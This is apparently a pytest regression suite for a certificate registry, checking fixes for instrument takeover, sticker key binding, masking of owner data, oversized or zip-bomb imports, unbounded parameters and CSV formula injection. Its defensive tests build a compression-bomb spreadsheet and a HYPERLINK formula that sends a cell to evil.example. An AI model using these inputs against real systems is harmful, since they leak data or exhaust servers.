"""Issue 11 regressions in the certificate registry: one institution cannot rewrite another's
instrument (#2), stickers verify only with a key that was valid and belongs to the certificate's
institution (#3), individual owners are masked wherever the public sees them (#4), imports are
bounded (#14), integer parameters are bounded (#15), the overdue export is formula-safe (#16)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from collections.abc import Awaitable, Callable
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from jwt.utils import base64url_encode

from api.certificates import stickers
from api.certificates.settings import CertificatesSettings
from portal import signing
from portal.accounts.models import Organization, Role, User
from portal.db import Database
from portal.settings import Settings
from tests.api.certificates.support import Issue, days, valid_uscc
from tests.support import assert_problem


def _claims(certificate: dict[str, Any]) -> dict[str, Any]:
    instrument = certificate["instrument"]
    return stickers.sticker_claims(
        SimpleNamespace(
            number=certificate["number"],
            institution_code=certificate["institution"]["code"],
            sticker_token=instrument["sticker_token"],
            category_code=instrument["category_code"],
            serial=instrument["serial"],
            kind=certificate["kind"],
            conclusion=certificate["conclusion"],
            verified_on=date.fromisoformat(certificate["verified_on"]),
            valid_until=date.fromisoformat(certificate["valid_until"]),
        )
    )


@pytest.fixture
def keys_dir(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(settings.of(CertificatesSettings), "signing_keys_dir", tmp_path)
    return tmp_path


async def _org(database: Database, user: User) -> Organization:
    async with database.sessionmaker() as session:
        org = await session.get(Organization, user.organization_id)
        assert org is not None
        return org


async def _new_key(database: Database, settings: Settings, org: Organization) -> Any:
    async with database.transaction() as session:
        await stickers.create_institution_key(session, org, settings=settings, actor=None)
    return signing.load_signing_key(
        settings.of(CertificatesSettings).signing_keys_dir / f"{org.code}.pem"
    )


async def _verify(client: httpx.AsyncClient, token: str) -> dict[str, Any]:
    response = await client.post("/api/v1/certificates/verify", json={"payload": token})
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


# --- #2 --------------------------------------------------------------------------------------


async def test_another_institution_cannot_take_over_an_instrument(
    client: httpx.AsyncClient, issue: Issue, make_user: Callable[..., Awaitable[User]]
) -> None:
    first = await issue(number="OWN-1", serial="TAKE-1", region_code="610402")
    other = await make_user(Role.institution)
    second = await issue(
        user=other,
        number="OTHER-1",
        serial="TAKE-1",
        owner_name="另一家公司",
        owner_uscc=None,
        owner_type="enterprise",
        region_code="610403",
        conclusion="不合格",
        valid_until=None,
    )
    # the same instrument (same sticker), its owner and region as the first institution left them
    assert second["instrument"]["sticker_token"] == first["instrument"]["sticker_token"]
    instrument = (
        await client.get(f"/api/v1/instruments/{first['instrument']['sticker_token']}")
    ).json()["instrument"]
    assert instrument["owner_name"] == first["instrument"]["owner_name"]
    assert instrument["region_code"] == "610402"
    assert instrument["owner_uscc"] == first["instrument"]["owner_uscc"]


async def test_the_owning_institution_changes_the_owner_with_an_audit_event(
    client: httpx.AsyncClient, issue: Issue, database: Database
) -> None:
    from sqlalchemy import select

    from portal.audit.models import AuditEntry

    first = await issue(
        number="MOVE-1", serial="MOVE-SN", verified_on=days(-30), valid_until=days(300)
    )
    await issue(number="MOVE-2", serial="MOVE-SN", region_code="610403", verified_on=days(-5))
    instrument = (
        await client.get(f"/api/v1/instruments/{first['instrument']['sticker_token']}")
    ).json()["instrument"]
    assert instrument["region_code"] == "610403"
    async with database.sessionmaker() as session:
        entries = (
            await session.scalars(
                select(AuditEntry).where(AuditEntry.action == "instrument.identity_change")
            )
        ).all()
    assert len(entries) == 1
    assert entries[0].actor_id is not None
    assert "MOVE-2" in json.dumps(entries[0].after, ensure_ascii=False)


# --- #3 --------------------------------------------------------------------------------------


async def test_a_sticker_signed_with_another_institutions_key_is_not_genuine(
    client: httpx.AsyncClient,
    issue: Issue,
    make_user: Callable[..., Awaitable[User]],
    database: Database,
    settings: Settings,
    keys_dir: Path,
) -> None:
    certificate = await issue(number="BIND-1")
    other = await make_user(Role.institution)
    key = await _new_key(database, settings, await _org(database, other))
    token = stickers.sign(_claims(certificate), key)
    result = await _verify(client, token)
    assert result["signature_valid"] is False
    assert result["reason"] == "signed with another institution's key"
    page = await client.get(f"/v/{token}")
    assert "防伪验证失败" in page.text


async def test_a_sticker_signed_with_a_closed_key_is_not_genuine(
    client: httpx.AsyncClient,
    issue: Issue,
    institution_user: User,
    database: Database,
    settings: Settings,
    keys_dir: Path,
) -> None:
    org = await _org(database, institution_user)
    retired = await _new_key(database, settings, org)
    before = await issue(number="ROT-1")
    assert (await _verify(client, stickers.sign(_claims(before), retired)))["signature_valid"]
    await _new_key(database, settings, org)  # rotation closes the first key now
    after = await issue(number="ROT-2")
    result = await _verify(client, stickers.sign(_claims(after), retired))
    assert result["signature_valid"] is False
    assert result["reason"] == "signed with a key after its valid_until"
    # what was signed while the key was valid stays genuine
    assert (await _verify(client, stickers.sign(_claims(before), retired)))["signature_valid"]


async def test_stickers_printed_with_the_old_key_id_still_verify(
    client: httpx.AsyncClient, issue: Issue, settings: Settings
) -> None:
    """Before one key id scheme, stickers carried base64url(SHA-256(raw key)[:8]) as kid."""
    certificate = await issue(number="OLD-KID-1")
    key = signing.load_signing_key(settings.signing_key_file)
    await client.get("/api/v1/trust-list")  # registers the portal key under its hex-16 id
    raw = signing.raw_public_key(key.public_key)
    old_kid = base64url_encode(hashlib.sha256(raw).digest()[:8]).decode()
    assert len(old_kid) == 11 and old_kid != key.key_id  # noqa: PT018
    legacy = signing.SigningKey(private_key=key.private_key, key_id=old_kid)
    result = await _verify(client, stickers.sign(_claims(certificate), legacy))
    assert result["signature_valid"] is True, result
    assert result["status"] == "valid"
    forged = signing.SigningKey(private_key=Ed25519PrivateKey.generate(), key_id=old_kid)
    assert (await _verify(client, stickers.sign(_claims(certificate), forged)))[
        "signature_valid"
    ] is False


# --- #4 --------------------------------------------------------------------------------------


async def test_individual_owners_are_masked_on_every_public_page_and_api(
    client: httpx.AsyncClient, issue: Issue
) -> None:
    certificate = await issue(
        number="MASK-1",
        serial="MASK-SN",
        owner_name="李秀兰",
        owner_uscc=None,
        owner_type="individual",
        address="人民路农贸市场 27号摊位",
    )
    token = certificate["instrument"]["sticker_token"]
    public = [
        await client.get("/api/v1/certificates/MASK-1"),
        await client.get(f"/api/v1/instruments/{token}"),
        await client.get("/api/v1/certificates", params={"serial": "MASK-SN"}),
        await client.get("/certificates", params={"q": "MASK-1"}),
        await client.get("/certificates", params={"q": "MASK-SN"}),
        await client.get(f"/v/{token}"),
        await client.get("/complaints/new", params={"certificate_number": "MASK-1"}),
        await client.get("/complaints/new", params={"instrument_token": token}),
    ]
    for response in public:
        assert response.status_code == 200, (response.url, response.status_code)
        assert "李秀兰" not in response.text, response.url
        assert "27号摊位" not in response.text, response.url
    assert "李**" in public[0].text
    assert "李**" in public[6].text  # the complaint form still names the stall holder, masked


# --- #14 -------------------------------------------------------------------------------------


def _xlsx(cell: str) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["number", "category_code", "serial", "owner_name", "region_code", "verified_on"])
    sheet.append(["X-1", "scale-pc", "X-SN", cell, "610402", "2026-01-15"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


async def _import(
    client: httpx.AsyncClient, headers: dict[str, str], name: str, content: bytes
) -> httpx.Response:
    return await client.post(
        "/api/v1/certificates/import", files={"file": (name, content)}, headers=headers
    )


async def test_imports_refuse_oversized_cells_rows_and_sheets_early(
    client: httpx.AsyncClient,
    institution_user: User,
    auth_headers: Callable[[User], Awaitable[dict[str, str]]],
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    headers = await auth_headers(institution_user)
    big_cell = await _import(client, headers, "big.xlsx", _xlsx("长" * 5000))
    assert_problem(big_cell, 422, "import_file_too_large")
    # A sheet that expands past the limit is refused from the zip directory, before parsing:
    # 2 MB of one repeated character compresses to a few kilobytes.
    monkeypatch.setattr(
        settings.of(CertificatesSettings), "certificate_import_max_xml_bytes", 1024 * 1024
    )
    bomb = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_xlsx("ok"))) as source,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(
                    b"</sheetData>", b"<!--" + b"a" * 2_000_000 + b"--></sheetData>"
                )
            target.writestr(item, data)
    assert len(bomb.getvalue()) < 100_000
    assert_problem(
        await _import(client, headers, "bomb.xlsx", bomb.getvalue()), 422, "import_file_too_large"
    )
    long_line = '{"number": "J-1", "owner_name": "' + "x" * 30_000 + '"}\n'
    assert_problem(
        await _import(client, headers, "rows.jsonl", long_line.encode()),
        422,
        "import_file_too_large",
    )
    header = "number,category_code,serial,owner_name,region_code,verified_on\n"
    csv_cell = header + "C-1,scale-pc,C-SN," + "x" * 200_000 + ",610402,2026-01-15\n"
    assert_problem(
        await _import(client, headers, "cell.csv", csv_cell.encode()), 422, "import_file_too_large"
    )


# --- #15 -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"serial": "X", "offset": "1034109564258183090488213504"},
        {"serial": "X", "page": "1034109564258183090488213504"},
        {"serial": "X", "per_page": "100000"},
    ],
)
async def test_integer_parameters_are_bounded(
    client: httpx.AsyncClient, params: dict[str, str]
) -> None:
    response = await client.get("/api/v1/certificates", params=params)
    assert response.status_code in (200, 422), response.text
    if "offset" not in params:
        assert_problem(response, 422)


# --- #16 -------------------------------------------------------------------------------------


async def test_overdue_csv_neutralises_formulas(
    client: httpx.AsyncClient,
    issue: Issue,
    make_user: Callable[..., Awaitable[User]],
    auth_headers: Callable[[User], Awaitable[dict[str, str]]],
) -> None:
    formula = '=HYPERLINK("http://evil.example/"&B2,"点击")'
    await issue(
        number="CSV-1",
        serial="@SUM(1)",
        owner_name=formula,
        owner_uscc=valid_uscc(),
        verified_on=days(-300),
        valid_until=days(-1),
    )
    regulator = await make_user(Role.regulator, region="610400")
    exported = await client.get(
        "/api/v1/instruments/overdue.csv",
        params={"region": "610400"},
        headers=await auth_headers(regulator),
    )
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    row = next(r for r in rows[1:] if r[0].endswith("@SUM(1)"))
    assert row[0] == "'@SUM(1)"
    assert row[3] == "'" + formula


def test_safe_cell_rule() -> None:
    from portal.exports import safe_cell

    for dangerous in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_cell("合格") == "合格"
    assert safe_cell(-3) == -3  # numbers are not text a spreadsheet evaluates
